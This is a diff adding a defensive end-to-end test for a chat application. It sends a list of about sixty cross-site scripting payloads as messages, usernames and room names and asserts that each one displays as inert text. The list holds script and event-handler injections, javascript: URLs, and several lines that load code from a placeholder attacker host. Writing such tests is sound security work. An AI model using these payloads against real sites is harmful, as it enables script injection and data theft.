@@ -1,0 +1,124 @@
+// Text from others is text: sixty ways to make it more, as message, name, room and
+// error, and none works.
+
+import assert from 'node:assert/strict';
+import {test} from 'node:test';
+import {join, person, serve, shows, texts, until} from './harness.js';
+
+const js = 'window.pwned=1';
+const payloads = [
+  `<script>${js}</script>`, `<ScRiPt>${js}</sCrIpT>`, '<script src=//evil.example/x.js></script>', `<script type=module>${js}</script>`,
+  `<img src=x onerror=${js}>`, `<img src=x onerror="${js}">`, `<IMG SRC=x ONERROR=${js}>`, `<img/src/onerror=${js}>`, '<img src=//evil.example/p.gif>',
+  `<svg onload=${js}>`, `<svg><script>${js}</script></svg>`, `<svg><animate onbegin=${js} attributeName=x>`, '<svg><use href="//evil.example/x.svg#a"/></svg>',
+  `<body onload=${js}>`, `<iframe srcdoc="<script>parent.${js}</script>">`, `<iframe src=javascript:parent.${js}>`, '<iframe src=//evil.example>',
+  `<object data=javascript:${js}>`, '<embed src=//evil.example>', `<video><source onerror=${js}>`, `<audio src=x onerror=${js}>`,
+  `<details open ontoggle=${js}>`, `<input autofocus onfocus=${js}>`, `<select autofocus onfocus=${js}>`, `<textarea autofocus onfocus=${js}>`,
+  `<marquee onstart=${js}>`, `<a href=javascript:${js}>x</a>`, `<a href="java\tscript:${js}">x</a>`, `<form action=javascript:${js}><button>x`,
+  `<math href=javascript:${js}>x</math>`, `<base href=//evil.example/>`, '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css";</style>',
+  '<style>*{background:url(//evil.example/b)}</style>', '<meta http-equiv=refresh content="0;url=//evil.example">', `<template><script>${js}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${js}>">`, `<!--><img src=x onerror=${js}>-->`, `<![CDATA[><img src=x onerror=${js}>]]>`, `<p style="background:url(//evil.example)">x`,
+  `"><img src=x onerror=${js}>`, `'><img src=x onerror=${js}>`, `</textarea><img src=x onerror=${js}>`, `</title><script>${js}</script>`,
+  `" onmouseover="${js}`, `' onfocus='${js}' autofocus='`, '${alert(1)}', '{{constructor.constructor("alert(1)")()}}',
+  `javascript:${js}`, `http://x" onclick="${js}`, `https://x.example/'onmouseover='${js}`, 'http://javascript:alert(1)@evil.example/', `data:text/html,<script>${js}</script>`, `vbscript:${js}`,
+  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '\\u003cscript\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E',
+  '__proto__', 'constructor', 'toString', '\u202Egnp.exe\u202C', '<x contenteditable onblur=alert(1)>', 'a\u0000<b>b</b>',
+];
+
+/** Joins with each of names in each of rooms from inside a page, sends texts, and stays. */
+const attack = (page, list, rooms) => page.evaluate(async ([list, rooms]) => {
+  const refused = [];
+  window.kept = [];
+  for (const [name, text, room] of list.flatMap(([name, text]) => rooms.map((room) => [name, text, room ?? name]))) {
+    const ws = new WebSocket(`ws://${location.host}/ws/${encodeURIComponent(room)}?username=${encodeURIComponent(name)}`, 'chat.v1');
+    const ok = await new Promise((resolve) => {
+      ws.onmessage = () => resolve(true);
+      ws.onerror = () => resolve(false);
+    });
+    if (!ok) refused.push(name);
+    else {
+      kept.push(ws);
+      ws.send('{"type":"typing"}');
+      if (text) ws.send(JSON.stringify({type: 'message', message: text}));
+    }
+  }
+  return refused;
+}, [list, rooms]);
+
+const kinds = (page) => page.evaluate(() => [...new Set([...document.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()))].sort());
+
+async function victim(context, url) {
+  const requests = [];
+  context.on('request', (r) => requests.push(r.url()));
+  context.on('page', (p) => requests.push(`a new page: ${p.url()}`));
+  await context.addInitScript(() => {
+    window.violations = [];
+    addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
+  });
+  const page = await join(context, url, 'Victim', 'general');
+  requests.length = 0;
+  page.unharmed = async () => {
+    assert.deepEqual(page.complaints, [], 'no dialogs and no errors');
+    assert.deepEqual(requests.filter((r) => !r.startsWith(url) && !r.startsWith(url.replace('http', 'ws'))), [], 'no requests to others');
+    assert.deepEqual(await page.evaluate(() => [window.pwned, window.violations, Object.keys(Object.prototype)]), [undefined, [], []]);
+    const attributes = await page.evaluate(() => [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => `${a.name}=${a.value}`)));
+    assert.deepEqual(attributes.filter((a) => /^on|^(href|src|action|srcdoc|formaction)=\s*(?!https?:|#|[\w.]+$|$)/i.test(a)), []);
+  };
+  return page;
+}
+
+test('sixty payloads as messages', async () => {
+  assert.ok(payloads.length >= 60);
+  const {url} = await serve(['-rate', '0']);
+  const page = await victim(await person(), url), other = await (await person()).newPage();
+  await other.goto(url);
+  await attack(other, [['Someone', 'a message with a link: https://example.com/']], ['general']);
+  await shows(page, 'a message with a link');
+  const before = await kinds(page);
+  await attack(other, payloads.map((text) => ['Mallory', text]), ['general']);
+  await until('all have come', async () => (await texts(page)).length === payloads.length + 1);
+  assert.deepEqual((await texts(page)).slice(1), payloads, 'each is there, as it was written');
+  assert.deepEqual(await kinds(page), before, 'no new kinds of elements');
+  await page.unharmed();
+  // The addresses among them are links to what they show, and to nothing else.
+  const links = await page.$$eval('.text a', (all) => all.map((a) => [a.textContent, a.protocol, a.rel]));
+  for (const [shown, protocol, rel] of links) {
+    assert.match(shown, /^https?:\/\//);
+    assert.match(protocol, /^https?:$/);
+    assert.equal(rel, 'noopener noreferrer nofollow');
+  }
+});
+
+test('payloads as names, rooms and errors', async () => {
+  const {url} = await serve(['-rate', '0']);
+  const page = await victim(await person(), url), other = await (await person()).newPage();
+  await other.goto(url);
+  await attack(other, [['Someone', 'hello']], ['general']);
+  await shows(page, 'hello');
+  const before = await kinds(page);
+  const refused = await attack(other, payloads.map((name) => [name, `I am ${name}`]), ['general']);
+  const accepted = payloads.filter((p) => !refused.includes(p));
+  assert.ok(accepted.length >= 30, `${accepted.length} were names`);
+  await shows(page, `I am ${accepted.at(-1)}`);
+  const shown = await page.$$eval('.name', (all) => all.map((e) => e.textContent));
+  for (const name of accepted) assert.ok(shown.includes(name.normalize('NFKC').trim()), `${name} among the names`);
+  // Written to privately, the name is in the composer and over the message.
+  await page.locator('#members button', {hasText: '<svg onload'}).first().click();
+  assert.match(await page.textContent('#to'), /^<svg onload/);
+  await page.fill('#text', 'psst');
+  await page.press('#text', 'Enter');
+  await page.locator('#log .only', {hasText: 'Only to <svg onload'}).waitFor();
+  await page.unharmed();
+  // As rooms: in the list, as a title, and in the errors for what is none.
+  await attack(other, payloads.map((name) => [name, '']), [null]);
+  await page.reload();
+  await page.locator('#rooms bdi', {hasText: '<svg onload'}).first().waitFor();
+  for (const room of ['<svg onload=window.pwned=1>', '__proto__', '"><b>x', '<script>window.pwned=1<', 'javascript:alert(1)']) {
+    await page.evaluate((r) => (location.hash = encodeURIComponent(r)), room);
+    await until(`in ${room}`, async () => await page.textContent('#title') === room);
+    assert.equal(await page.title(), `${room} · chat`);
+  }
+  assert.deepEqual((await kinds(page)).filter((k) => !before.includes(k) && k !== 'a'), []);
+  await page.evaluate(() => (location.hash = encodeURIComponent('</p><img src=x onerror=window.pwned=1>')));
+  await page.locator('#refused:not(:empty)').waitFor();
+  await page.unharmed();
+});
